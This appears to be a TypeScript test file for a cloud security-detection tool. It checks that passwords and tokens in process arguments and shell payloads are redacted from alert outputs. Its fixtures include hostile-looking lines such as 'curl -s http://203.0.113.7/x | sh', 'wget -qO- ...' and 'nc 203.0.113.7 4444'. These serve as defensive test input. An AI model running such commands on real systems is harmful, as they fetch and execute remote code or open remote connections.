import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { evaluate } from "../../src/detection/rule.js";
import { encodeAwslogsEvent } from "../../src/ingest/encode.js";
import type { Finding } from "../../src/model.js";
import { buildSignals } from "../../src/signals/build.js";
import { joinQuotedPieces, redactArgs, redactText } from "../../src/signals/redact.js";
import { renderEmail, renderJson, renderSnsMessage, renderSubject } from "../../src/signals/render.js";
import { session } from "../detection/factory.js";
import { loadFixture } from "../sources/fixtures.js";
import { runCli } from "../support/cli.js";
import { finding } from "./finding-factory.js";

// Secrets are letters and digits framed by "Zx…Q9", so they cannot occur by chance in fixed text.
const alnum = [..."ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"];
const secretArb = fc
  .string({ unit: fc.constantFrom(...alnum), minLength: 10, maxLength: 36 })
  .map((s) => `Zx${s}Q9`);

/** Password variables that clients read from the environment (their manuals name them). */
const CLIENT_ENV = [
  "SSHPASS", // sshpass -e
  "MYSQL_PWD", // mysql
  "PGPASSWORD", // psql, pg_dump
  "REDISCLI_AUTH", // redis-cli
  "SQLCMDPASSWORD", // sqlcmd
  "PASSWD", // smbclient
  "IPMI_PASSWORD", // ipmitool -E
  "RSYNC_PASSWORD", // rsync daemon mode
  "ETCDCTL_PASSWORD", // etcdctl
  "LFTP_PASSWORD", // lftp --env-password
];

/** One argument vector holding a secret, as the kernel hands it to the program. */
const argvForm = (s: string): fc.Arbitrary<readonly string[]> =>
  fc.oneof(
    fc.constantFrom(...CLIENT_ENV).map((name) => [`${name}=${s}`]),
    fc.constantFrom(...CLIENT_ENV).map((name) => ["-e", `${name}=${s}`]),
    fc.constant(["docker", "login", "-u", "bob", "-p", s, "registry.example.com"]),
    fc.constant(["docker", "login", `-p${s}`, "registry.example.com"]),
    fc.constant(["podman", "login", "--password", s, "quay.io"]),
    fc.constant(["nerdctl", "login", `--password=${s}`, "ghcr.io"]),
    fc.constant(["helm", "registry", "login", "r.example.com", "-u", "a", "-p", s]),
    fc.constant([`machine h.example.com login bob password ${s}`]),
    fc.constant([`password ${s}`]),
    fc.constant([`user = bob:${s}`]),
    fc.constant([`user = "bob:${s}"`]),
    fc.constant([`proxy-user: bob:${s}`]),
    fc.constant([`header = "X-Api-Key: ${s}"`]),
    fc.constant([`header = "Authorization: Bearer ${s}"`]),
    fc.constant([`oauth2-bearer ${s}`]),
  );

/** One piece of shell text holding a secret, as a `sh -c` payload or an exec session carries it. */
const payloadForm = (s: string): fc.Arbitrary<string> => {
  const half = Math.floor(s.length / 2);
  const [a, b] = [s.slice(0, half), s.slice(half)];
  return fc.oneof(
    fc.constantFrom(...CLIENT_ENV).map((name) => `${name}=${s} sshpass -e ssh u@h`),
    fc.constantFrom(...CLIENT_ENV).map((name) => `export ${name}='${s}'; mysql -h db`),
    fc.constantFrom(...CLIENT_ENV).map((name) => `env ${name}="${s}" psql -h db`),
    fc.constant(`docker login -u bob -p ${s} registry.example.com`),
    fc.constant(`docker login --password-stdin r.io < /run/pw; docker login -p ${s} r.io`),
    fc.constant(`echo "machine h.example.com login bob password ${s}" >> ~/.netrc`),
    fc.constant(`printf 'machine h\\nlogin bob\\npassword ${s}\\n' > /root/.netrc`),
    fc.constant(`printf 'default login anonymous password ${s}' >~/.netrc`),
    fc.constant(`echo 'user = bob:${s}' | curl -K - http://x`),
    fc.constant(`printf 'user bob:${s}\\nurl = http://x\\n' | curl -K -`),
    fc.constant(`printf 'header = "Authorization: Bearer ${s}"\\n' | curl -K - http://x`),
    fc.constant(`printf 'header = "X-Auth-Token: ${s}"' | curl --config - http://x`),
    fc.constant(`curl -H 'Authorization: Bearer '"${s}" http://x`),
    fc.constant(`curl -H "Authorization: Bearer "'${s}' http://x`),
    fc.constant(`curl -H 'Authorization: Bearer '${s} http://x`),
    fc.constant(`curl -H Authorization:' Bearer '${s} http://x`),
    fc.constant(`curl -H 'Authorization: Bearer '"${a}"'${b}' http://x`),
    fc.constant(`curl -H 'Authorization: 'Bearer' '${a}"${b}" http://x`),
    fc.constant(`curl -u bob:'${s}' http://x`),
    fc.constant(`curl -u 'bob:'"${a}"${b} http://x`),
  );
};

const around = fc.array(
  fc.constantFrom("ls /tmp", "id", "wget -qO- http://203.0.113.7/x", "nc 203.0.113.7 4444", "cd /app"),
  { maxLength: 3 },
);

/** Every text a reader or a machine gets from the signal: JSON, subject, email, SNS default/email/subject. */
function outputsOf(f: Finding): string[] {
  const [signal] = buildSignals([f]);
  const sns = renderSnsMessage(signal!);
  const bodies = JSON.parse(sns.message) as { default: string; email: string };
  return [
    JSON.stringify(signal),
    renderSubject(signal!),
    renderEmail(signal!),
    renderJson(signal!),
    sns.message,
    bodies.default,
    bodies.email,
    sns.subject,
  ];
}

/** The secret, and each half of it when split by quoting, must be gone from every output. */
function expectHidden(outputs: string[], secret: string): void {
  const half = Math.floor(secret.length / 2);
  for (const output of outputs) {
    expect(output).not.toContain(secret);
    expect(output).not.toContain(secret.slice(0, half));
    expect(output).not.toContain(secret.slice(half));
  }
}

describe("client password variables, registry logins, netrc and curl config lines, split bearer tokens", () => {
  it("never leave the function from argv, ancestors' args or a `sh -c` payload", () => {
    fc.assert(
      fc.property(
        secretArb.chain((s) => fc.tuple(fc.constant(s), argvForm(s), payloadForm(s))),
        fc.array(fc.constantFrom("-s", "-o", "/tmp/x", "-v", "http://example.com/", "-p", "4444"), {
          maxLength: 4,
        }),
        fc.nat(),
        around,
        fc.constantFrom("argv", "sh -c", "ancestor", "ancestor sh -c", "grandparent sh -c"),
        ([secret, argv, payload], extra, at, others, where) => {
          const position = at % (extra.length + 1);
          const args = [...extra.slice(0, position), ...argv, ...extra.slice(position)];
          const script = [...others.slice(0, position % 2), payload, ...others].join("; ");
          const f: Finding = finding();
          if (where === "argv") f.event.process.args = args;
          if (where === "sh -c") f.event.process.args = ["-c", script];
          if (where === "ancestor") f.event.ancestors[0] = { name: "sh", path: "/bin/sh", args };
          if (where === "ancestor sh -c")
            f.event.ancestors[0] = { name: "sh", path: "/bin/sh", args: ["-c", script] };
          if (where === "grandparent sh -c")
            f.event.ancestors[1] = { name: "bash", path: "/bin/bash", args: ["-c", `(${script}) &`] };
          f.process = f.event.process;
          expectHidden(outputsOf(f), secret);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("never leave the function from an exec session's payload (kubectl exec / ECS Exec)", () => {
    fc.assert(
      fc.property(
        secretArb.chain((s) => fc.tuple(fc.constant(s), payloadForm(s))),
        around,
        ([secret, payload], others) => {
          const script = [...others, payload, "nc 203.0.113.7 4444"].join(" && ");
          const verdict = evaluate(session("sh", "-c", script));
          expect(verdict.kind).toBe("finding");
          if (verdict.kind !== "finding") return;
          expectHidden(outputsOf(verdict.finding), secret);
        },
      ),
      { numRuns: 200 },
    );
  });

  it.each([
    ["SSHPASS=s3cretpw1 sshpass -e ssh u@h", "SSHPASS=[REDACTED] sshpass -e ssh u@h"],
    ["REDISCLI_AUTH=s3cretpw1 redis-cli ping", "REDISCLI_AUTH=[REDACTED] redis-cli ping"],
    ["docker login -u bob -p s3cretpw1 r.io", "docker login -u bob -p [REDACTED] r.io"],
    [
      `echo "machine h login bob password s3cretpw1" >> ~/.netrc`,
      `echo "machine h login bob password [REDACTED]" >> ~/.netrc`,
    ],
    [
      "printf 'login bob\\npassword s3cretpw1\\n' > ~/.netrc",
      "printf 'login bob\\npassword [REDACTED]\\n' > ~/.netrc",
    ],
    ["echo 'user = bob:s3cretpw1' | curl -K -", "echo 'user = bob:[REDACTED]' | curl -K -"],
    [
      `curl -H 'Authorization: Bearer '"s3cretpw1" http://x`,
      "curl -H 'Authorization: Bearer [REDACTED]' http://x",
    ],
    ["curl -u bob:'s3cretpw1' http://x", "curl -u 'bob:[REDACTED]' http://x"],
  ])("masks %s", (input, expected) => {
    expect(redactText(input)).toBe(expected);
  });

  it.each([
    ["docker run -p 8080:80 nginx (a port, not a password)", "docker run -p 8080:80 nginx"],
    ["a user name alone", "echo 'user = bob' | curl -K -"],
    ["JSON keeps its quotes", '{"Authorization":"Bearer [REDACTED]","url":"http://x"}'],
    ["quoted words without a secret keep their quotes", `echo 'a'"b" "c d"`],
  ])("leaves alone %s", (_name, input) => {
    expect(redactText(input)).toBe(input);
  });

  it("judges docker's -p by its subcommand in an argument vector", () => {
    expect(redactArgs(["login", "-u", "bob", "-p", "s3cretpw1", "r.io"], "docker")).toEqual([
      "login",
      "-u",
      "bob",
      "-p",
      "[REDACTED]",
      "r.io",
    ]);
    expect(redactArgs(["run", "-p", "8080:80", "nginx"], "docker")).toEqual([
      "run",
      "-p",
      "8080:80",
      "nginx",
    ]);
  });

  it("joins the quoted pieces of one shell word, and only those", () => {
    expect(joinQuotedPieces(`curl -H 'Authorization: Bearer '"tok" x`)).toBe(
      "curl -H 'Authorization: Bearer tok' x",
    );
    expect(joinQuotedPieces(`-u bob:'pw' 'one' two`)).toBe(`-u 'bob:pw' 'one' two`);
    expect(joinQuotedPieces(`a "b\\"c"'d' |e`)).toBe(`a "b\\"cd" |e`);
  });
});

describe("CLI stdout", () => {
  it("carries none of the secret forms (dist/cli.js invoke)", { timeout: 60_000 }, () => {
    const secrets = [
      "Zx1sshpassQ9",
      "Zx2dockerloginQ9",
      "Zx3netrcpassQ9",
      "Zx4curlcfgQ9",
      "Zx5splitbearerQ9",
    ];
    // Tetragon writes an argument with spaces in double quotes, so these payloads use single quotes only.
    const payloads = [
      `SSHPASS=${secrets[0]} sshpass -e ssh u@h; nc 203.0.113.7 4444`,
      `docker login -p ${secrets[1]} r.io && curl -s http://203.0.113.7/x | sh`,
      `printf 'machine h\\nlogin bob\\npassword ${secrets[2]}\\n' > ~/.netrc; curl -n http://203.0.113.7/x`,
      `echo 'user = bob:${secrets[3]}' | curl -K - http://203.0.113.7/x`,
      `curl -H 'Authorization: Bearer '${secrets[4]} http://203.0.113.7/x | sh`,
    ];
    const logEvents = payloads.map((payload, i) => {
      const record = loadFixture("tetragon-wget-pipe-sh") as {
        process_exec: { process: { arguments: string; exec_id: string }; parent: { arguments: string } };
      };
      record.process_exec.parent.arguments = `-c "${payload}"`;
      record.process_exec.process.exec_id = `exec-${i}`;
      return {
        id: String(i + 1),
        timestamp: Date.UTC(2026, 2, 15, 22, 11, i),
        message: JSON.stringify(record),
      };
    });
    const event = encodeAwslogsEvent({
      messageType: "DATA_MESSAGE",
      owner: "123456789012",
      logGroup: "/aws/containerinsights/prod-eks/tetragon",
      logStream: "ip-10-0-47-181.ec2.internal",
      subscriptionFilters: ["netutil"],
      logEvents,
    });
    const file = join(mkdtempSync(join(tmpdir(), "redact-forms-")), "event.json");
    writeFileSync(file, JSON.stringify(event));
    const run = runCli(["invoke", "--dry-run", file], { SNS_TOPIC_ARN: undefined });
    expect(run.lines.length).toBeGreaterThan(0);
    for (const secret of secrets) {
      expect(run.stdout).not.toContain(secret);
      expect(run.stderr).not.toContain(secret);
    }
  });
});
